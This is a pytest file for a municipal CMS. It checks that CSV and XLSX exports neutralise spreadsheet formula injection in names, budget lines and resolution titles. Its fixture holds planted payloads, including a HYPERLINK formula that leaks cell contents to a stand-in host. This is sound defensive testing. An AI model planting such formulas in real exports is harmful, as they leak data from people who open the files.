"""Text someone planted in a name never runs as a formula in a spreadsheet: every CSV cell
that a spreadsheet would run starts with an apostrophe, every XLSX cell holding such text is
text; numbers stay numbers."""

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cms import open_data
from cms.tables import FORMULA_START
from tests import factories
from tests.conftest import municipality

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("without_demo_records")]

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PLANTED = [HYPERLINK, "+1+1", "-2+3", "@SUM(1,1)", "\t=1", "\r=1"]


@pytest.fixture
def planted():
    ngo = factories.organisation(HYPERLINK)
    ngo.name_ru = "@SUM(1,1)"
    ngo.save()
    factories.record(municipality("ton"), "hearing_budget", women=12, men=9, organisation=ngo)
    factories.budget(
        municipality("ton"),
        timezone.localdate().year,
        lines=[("+1+1", "education", "1000", True), ("-2+3", "water", "-50", False)],
    )
    factories.resolution(municipality("ton"), number="=1", title="\t=1", title_ru="\r=1")
    return ngo


def _number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def live_formulas_in_csv(text):
    """Cells a spreadsheet would run: starting with = + - @ tab or CR, and not a number."""
    return [
        cell
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
        for cell in row
        if cell.startswith(FORMULA_START) and not _number(cell)
    ]


def formulas_in_xlsx(body):
    workbook = load_workbook(io.BytesIO(body))
    return [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def period():
    today = timezone.localdate()
    return {"start": (today - timedelta(days=200)).isoformat(), "end": today.isoformat()}


@pytest.mark.parametrize("language", ["ky", "ru"])
@pytest.mark.parametrize("path", ["indicators/records/export/csv/", "indicators/export/csv/"])
def test_dashboard_csv_downloads_carry_no_live_formula(client, planted, language, path):
    response = client.get(f"/{language}/{path}", period())
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert live_formulas_in_csv(text) == []
    if "records" in path:
        shown = HYPERLINK if language == "ky" else "@SUM(1,1)"
        assert "'" + shown in [
            cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
        ]


@pytest.mark.parametrize("path", ["indicators/records/export/xlsx/", "indicators/export/xlsx/"])
def test_dashboard_xlsx_downloads_hold_planted_text_as_text(client, planted, path):
    response = client.get(f"/ky/{path}", period())
    assert response.status_code == 200
    assert formulas_in_xlsx(response.content) == []
    if "records" in path:
        cells = [
            cell.value
            for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()
            for cell in row
        ]
        assert HYPERLINK in cells


def test_budget_lines_csv_carries_no_live_formula_and_keeps_numbers(client, planted):
    page_url = municipality("ton").url + f"budget-{timezone.localdate().year}-adopted/"
    text = client.get(page_url + "csv/").content.decode("utf-8")
    assert live_formulas_in_csv(text) == []
    cells = [
        cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for cell in row
    ]
    assert "'+1+1" in cells and "'-2+3" in cells
    assert any(cell.startswith("-50") for cell in cells)  # a negative amount stays a number


def test_every_open_data_file_carries_no_live_formula(planted):
    archive = zipfile.ZipFile(io.BytesIO(open_data.build_archive()))
    planted_seen = []
    for name in archive.namelist():
        if name.endswith(".csv"):
            text = archive.read(name).decode("utf-8")
            assert live_formulas_in_csv(text) == [], name
            planted_seen += [
                c for r in csv.reader(io.StringIO(text, newline="")) for c in r if c[:2] == "'\t"
            ]
    assert planted_seen  # the resolution's planted title is there, neutralised


@pytest.mark.parametrize(
    "model",
    [
        "municipalities_organisation",
        "municipalities_participationrecord",
        "municipalities_councilresolution",
    ],
)
def test_admin_csv_exports_carry_no_live_formula(client, django_user_model, planted, model):
    client.force_login(django_user_model.objects.create_superuser("x", "x@example.kg", "pw"))
    response = client.get(reverse(f"wagtailsnippets_{model}:list"), {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    assert live_formulas_in_csv(text) == []
    xlsx = client.get(reverse(f"wagtailsnippets_{model}:list"), {"export": "xlsx"})
    assert formulas_in_xlsx(b"".join(xlsx.streaming_content)) == []
